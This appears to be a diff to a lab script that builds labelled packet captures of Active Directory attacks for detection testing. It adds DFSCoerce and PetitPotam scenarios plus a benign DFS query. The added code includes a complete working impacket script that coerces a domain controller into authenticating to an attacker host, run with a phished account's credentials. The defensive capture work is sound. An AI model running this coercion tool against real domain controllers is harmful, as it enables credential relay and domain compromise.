@@ -3,7 +3,8 @@
 #   sudo env VARIANT_FILE=$PWD/testdata/lab-extra/scenarios.sh \
 #        ONLY="honeytoken_ldap_query honeytoken_samr_query ldap_bind_bruteforce ntlm_user_enum benign_directory_lookups golden_ticket_ghost \
 #             forged_pac benign_no_pac_client dpapi_backupkey_bkrp benign_bkrp_restore \
-#             netsync smb_ntds_exfil benign_sysvol_read ldap_attribute_recon golden_ticket_rc4 golden_ticket_kvno" \
+#             netsync smb_ntds_exfil benign_sysvol_read ldap_attribute_recon golden_ticket_rc4 golden_ticket_kvno \
+#             dfs_coerce efs_coerce benign_dfs_query" \
 #        ../shared/lab/make-captures.sh run testdata/lab-extra
 #   sudo ../shared/lab/make-captures.sh down
 # Sourced by the lab script after its own definitions: it uses the lab's framework (cap_begin,
@@ -327,5 +328,94 @@ sc_golden_ticket_kvno() {
   EXTRA_ENV=$(cc atk-golden-kvno) on atk -- kvno "cifs/$DCFQDN@$REALM"
   expect "kerberos.msg_type==12 && ip.src==$ATK_IP"
   expect "kerberos.msg_type==11 && ip.dst==$WS_IP" 3
+  cap_end
+}
+
+SCEN_LIST="$SCEN_LIST dfs_coerce efs_coerce benign_dfs_query"
+
+coerce_tool() {
+  mkdir -p "$WORK/tools"
+  cat > "$WORK/tools/coerce.py" <<'PYEOF'
+# The coercion calls of DFSCoerce (MS-DFSNM NetrDfsRemoveStdRoot / NetrDfsAddStdRoot over
+# \pipe\netdfs) and PetitPotam (MS-EFSR EfsRpcOpenFileRaw / EfsRpcEncryptFileSrv over
+# \pipe\lsarpc and \pipe\efsrpc), with the listener's name as the server or UNC path.
+# usage: coerce.py dfs|efs DOMAIN USER PASSWORD TARGET LISTENER
+import sys
+from impacket.dcerpc.v5 import transport
+from impacket.dcerpc.v5.ndr import NDRCALL
+from impacket.dcerpc.v5.dtypes import WSTR, DWORD, ULONG
+from impacket.uuid import uuidtup_to_bin
+
+class NetrDfsAddStdRoot(NDRCALL):
+    opnum = 12
+    structure = (('ServerName', WSTR), ('RootShare', WSTR), ('Comment', WSTR), ('ApiFlags', DWORD))
+class NetrDfsRemoveStdRoot(NDRCALL):
+    opnum = 13
+    structure = (('ServerName', WSTR), ('RootShare', WSTR), ('ApiFlags', DWORD))
+class EfsRpcOpenFileRaw(NDRCALL):
+    opnum = 0
+    structure = (('FileName', WSTR), ('Flag', ULONG))
+class EfsRpcEncryptFileSrv(NDRCALL):
+    opnum = 4
+    structure = (('FileName', WSTR),)
+
+mode, dom, user, pw, target, listener = sys.argv[1:7]
+def connect(pipe, uuid, version):
+    t = transport.DCERPCTransportFactory(r'ncacn_np:%s[\PIPE\%s]' % (target, pipe))
+    t.set_credentials(user, pw, dom, '', '')
+    dce = t.get_dce_rpc()
+    dce.connect()
+    dce.bind(uuidtup_to_bin((uuid, version)))
+    return dce
+def call(dce, request):
+    try:
+        dce.request(request)
+        print(type(request).__name__, 'answered')
+    except Exception as e:
+        print(type(request).__name__, 'refused:', e)
+if mode == 'dfs':
+    dce = connect('netdfs', '4fc742e0-4a10-11cf-8273-00aa004ae673', '3.0')
+    r = NetrDfsRemoveStdRoot(); r['ServerName'] = listener + '\x00'; r['RootShare'] = 'test\x00'; r['ApiFlags'] = 1
+    call(dce, r)
+    r = NetrDfsAddStdRoot(); r['ServerName'] = listener + '\x00'; r['RootShare'] = 'test\x00'; r['Comment'] = '\x00'; r['ApiFlags'] = 0
+    call(dce, r)
+else:
+    for pipe, uuid in (('lsarpc', 'c681d488-d850-11d0-8c52-00c04fd90f7e'), ('efsrpc', 'df1941c5-fe89-4e79-bf10-463657acf44d')):
+        try:
+            dce = connect(pipe, uuid, '1.0')
+        except Exception as e:
+            print('bind', pipe, 'refused:', e)
+            continue
+        r = EfsRpcOpenFileRaw(); r['FileName'] = '\\\\%s\\share\\file.txt\x00' % listener; r['Flag'] = 0
+        call(dce, r)
+        r = EfsRpcEncryptFileSrv(); r['FileName'] = '\\\\%s\\share\\file.txt\x00' % listener
+        call(dce, r)
+PYEOF
+}
+
+sc_dfs_coerce() {
+  coerce_tool
+  cap_begin dfs_coerce attack T1187 "$ATK_IP" "$DCFQDN (MS-DFSNM)" \
+    "DFSCoerce: with a phished account ($RECON_USER), NetrDfsRemoveStdRoot and NetrDfsAddStdRoot over \\\\pipe\\\\netdfs naming the attacker's host ($ATK_IP) as the DFS server, to make the DC authenticate to it (impacket, as DFSCoerce.py does)."
+  on atk 60 -- "$VPY" "$WORK/tools/coerce.py" dfs "$DOMAIN" "$RECON_USER" "$RECON_PASS" "$DC_IP" "$ATK_IP"
+  expect 'netdfs.opnum==13'
+  expect 'netdfs.opnum==12'
+  cap_end
+}
+
+sc_efs_coerce() {
+  coerce_tool
+  cap_begin efs_coerce attack T1187 "$ATK_IP" "$DCFQDN (MS-EFSR)" \
+    "PetitPotam: with a phished account ($RECON_USER), binds MS-EFSR over \\\\pipe\\\\lsarpc and \\\\pipe\\\\efsrpc and calls EfsRpcOpenFileRaw / EfsRpcEncryptFileSrv with a UNC path on the attacker's host ($ATK_IP) (impacket, as PetitPotam.py does). Samba serves no MS-EFSR: the binds are refused."
+  on atk 60 -- "$VPY" "$WORK/tools/coerce.py" efs "$DOMAIN" "$RECON_USER" "$RECON_PASS" "$DC_IP" "$ATK_IP"
+  expect 'dcerpc.cn_bind_to_uuid == c681d488-d850-11d0-8c52-00c04fd90f7e'
+  cap_end
+}
+
+sc_benign_dfs_query() {
+  cap_begin benign_dfs_query benign none "$WS_IP" "$DCFQDN (MS-DFSNM)" \
+    "A workstation admin reading the DC's DFS namespace information (rpcclient dfsversion, dfsenum): management reads, no root added or removed."
+  on ws 60 -- rpcclient -s "$WORK/client.conf" -U "$DOMAIN\\$DA_USER%$DA_PASS" --use-kerberos=disabled "$DC_IP" -c "dfsversion; dfsenum 1"
+  expect 'netdfs'
   cap_end
 }
